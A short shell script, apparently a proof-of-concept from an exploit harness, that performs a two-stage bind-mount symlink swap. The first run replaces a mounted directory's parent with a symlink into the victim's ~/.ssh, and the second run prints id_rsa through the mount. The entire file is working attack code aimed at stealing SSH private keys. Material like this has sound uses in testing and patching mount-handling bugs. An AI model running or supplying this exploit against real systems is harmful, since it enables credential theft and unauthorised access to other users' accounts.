#!/bin/sh
# bind-symlink-swap (sh): run 1 turns the bind's parent into a symlink
# whose raw/ is the victim's ~/.ssh; run 2 reads what got mounted.
. "${TARGETS:-$1}"
if [ "$T_STAGE" = 1 ]; then
	mkdir -p "$T_WORK/.swap" && ln -sfn "$T_HOME/.ssh" "$T_WORK/.swap/raw" &&
		mv "$T_WORK/data" "$T_WORK/data.orig" && ln -s .swap "$T_WORK/data" && echo swapped
else
	cat /data/id_rsa "$T_WORK/data/raw/id_rsa" 2>&1
fi
